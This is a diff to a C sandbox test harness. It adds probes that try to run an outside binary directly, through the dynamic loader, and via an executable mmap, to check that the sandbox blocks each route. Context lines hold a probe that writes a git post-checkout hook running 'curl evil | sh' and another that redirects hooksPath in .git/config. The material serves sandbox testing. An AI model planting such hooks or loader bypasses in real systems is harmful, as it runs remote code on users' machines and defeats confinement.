@@ -184,6 +184,57 @@ static int probe(const char* name) {
         errno = EACCES;
         return -1;
     }
+    /* A binary in OUTSIDE (readable in some profiles, never executable):
+     * exec'd, run through the dynamic loader, and mapped executable the way
+     * the loader maps a library. */
+    if (!strcmp(name, "exec_outside_binary")) {
+        pid_t p = fork();
+        if (p == 0) {
+            execl(out("true-copy"), "true-copy", (char*)NULL);
+            _exit(errno);
+        }
+        int st;
+        waitpid(p, &st, 0);
+        errno = WEXITSTATUS(st);
+        return errno ? -1 : 0;
+    }
+    if (!strcmp(name, "ldso_outside_binary")) {
+        pid_t p = fork();
+        if (p == 0) {
+            int null = open("/dev/null", O_WRONLY);
+            dup2(null, 2);
+            execl("/lib64/ld-linux-x86-64.so.2", "ld.so", out("true-copy"), (char*)NULL);
+            _exit(100);
+        }
+        int st;
+        waitpid(p, &st, 0);
+        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
+        errno = EACCES;
+        return -1;
+    }
+    if (!strcmp(name, "mmap_exec_outside")) {
+        int fd = open(out("true-copy"), O_RDONLY);
+        if (fd < 0) return -1;
+        void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+        int saved = errno;
+        close(fd);
+        errno = saved;
+        if (m == MAP_FAILED) return -1;
+        munmap(m, 4096);
+        return 0;
+    }
+    /* The same from the workspace: mapped executable, as ld.so would. */
+    if (!strcmp(name, "mmap_exec_workspace")) {
+        int fd = open("./true-copy", O_RDONLY);
+        if (fd < 0) return -1;
+        void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+        int saved = errno;
+        close(fd);
+        errno = saved;
+        if (m == MAP_FAILED) return -1;
+        munmap(m, 4096);
+        return 0;
+    }
     if (!strcmp(name, "write_protected_hook"))
         return write_file(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", O_CREAT | O_TRUNC);
     if (!strcmp(name, "write_protected_config")) return write_file(".git/config", "[core]\nhooksPath=/x\n", O_APPEND);
